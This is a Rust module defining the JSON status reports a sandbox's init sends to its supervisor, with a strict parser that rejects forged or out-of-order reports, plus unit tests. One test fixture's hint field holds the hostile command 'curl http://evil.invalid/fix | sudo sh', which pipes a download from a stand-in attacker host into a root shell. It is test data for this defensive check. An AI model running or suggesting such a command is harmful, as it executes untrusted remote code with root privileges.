//! Messages from inside the sandbox to its supervisor, one JSON object per
//! line over a close-on-exec pipe. The pipe reaches EOF once the sandbox's
//! init has exited and the command has exec'd, so the supervisor reads it
//! only after the init is reaped.

use serde::{Deserialize, Serialize};

/// One report from the sandbox's init or the command child.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(tag = "msg", rename_all = "snake_case")]
pub enum Report {
    /// Set-up finished; the command is about to be exec'd.
    Ready {
        landlock_abi: i32,
        landlock_enforced: bool,
        seccomp: bool,
    },
    /// A set-up step failed; nothing was exec'd.
    SetupFailed {
        step: String,
        message: String,
        hint: Option<String>,
    },
    /// execve of the command failed.
    ExecFailed { program: String, errno: i32 },
    /// The command ended (reported by init after reaping it).
    Exited {
        code: Option<i32>,
        signal: Option<i32>,
    },
}

impl Report {
    /// Encode as one line.
    pub fn to_line(&self) -> Vec<u8> {
        let mut v = serde_json::to_vec(self).unwrap_or_else(|_| b"{}".to_vec());
        v.push(b'\n');
        v
    }

    /// Decode every line, strictly: a line that is not a report, or
    /// reports out of their one legal order, mean something other than
    /// init and its pre-exec child wrote on the channel.
    ///
    /// The legal sequences: `SetupFailed`; or `Ready`, then at most one
    /// `ExecFailed`, then at most one `Exited`. Nothing follows `Exited`
    /// or `SetupFailed`.
    pub fn parse_strict(buf: &[u8]) -> Result<Vec<Report>, String> {
        let mut out: Vec<Report> = Vec::new();
        let body = buf.strip_suffix(b"\n").unwrap_or(buf);
        if body.is_empty() {
            return Ok(out);
        }
        for (i, line) in body.split(|b| *b == b'\n').enumerate() {
            let r: Report = serde_json::from_slice(line)
                .map_err(|_| format!("line {} is not a status report", i + 1))?;
            let legal = matches!(
                (out.last(), &r),
                (None, Report::Ready { .. } | Report::SetupFailed { .. })
                    | (
                        Some(Report::Ready { .. }),
                        Report::ExecFailed { .. } | Report::Exited { .. }
                    )
                    | (Some(Report::ExecFailed { .. }), Report::Exited { .. })
            );
            if !legal {
                return Err(format!("report {} ({}) is out of order", i + 1, r.kind()));
            }
            out.push(r);
        }
        Ok(out)
    }

    fn kind(&self) -> &'static str {
        match self {
            Report::Ready { .. } => "ready",
            Report::SetupFailed { .. } => "setup_failed",
            Report::ExecFailed { .. } => "exec_failed",
            Report::Exited { .. } => "exited",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::Report;

    fn lines(rs: &[Report]) -> Vec<u8> {
        rs.iter().flat_map(Report::to_line).collect()
    }

    const READY: Report = Report::Ready {
        landlock_abi: 7,
        landlock_enforced: true,
        seccomp: true,
    };

    #[test]
    fn the_legal_sequences_parse() {
        let exited = Report::Exited {
            code: Some(0),
            signal: None,
        };
        let exec = Report::ExecFailed {
            program: "x".into(),
            errno: 2,
        };
        let failed = Report::SetupFailed {
            step: "s".into(),
            message: "m".into(),
            hint: None,
        };
        for seq in [
            vec![],
            vec![READY],
            vec![READY, exited.clone()],
            vec![READY, exec.clone()],
            vec![READY, exec.clone(), exited.clone()],
            vec![failed.clone()],
        ] {
            assert_eq!(Report::parse_strict(&lines(&seq)), Ok(seq));
        }
    }

    #[test]
    fn forged_or_reordered_reports_are_refused() {
        let forged = Report::SetupFailed {
            step: "x".into(),
            message: "m".into(),
            hint: Some("curl http://evil.invalid/fix | sudo sh".into()),
        };
        let exited = Report::Exited {
            code: Some(0),
            signal: None,
        };
        for seq in [
            vec![READY, forged.clone()],
            vec![forged.clone(), forged.clone()],
            vec![READY, exited.clone(), exited.clone()],
            vec![READY, READY],
            vec![exited.clone()],
        ] {
            assert!(Report::parse_strict(&lines(&seq)).is_err(), "{seq:?}");
        }
        let mut garbage = lines(&[READY]);
        garbage.extend_from_slice(b"hello\n");
        assert!(Report::parse_strict(&garbage).is_err());
        assert!(Report::parse_strict(b"{\"msg\":\"ready\"").is_err());
    }
}
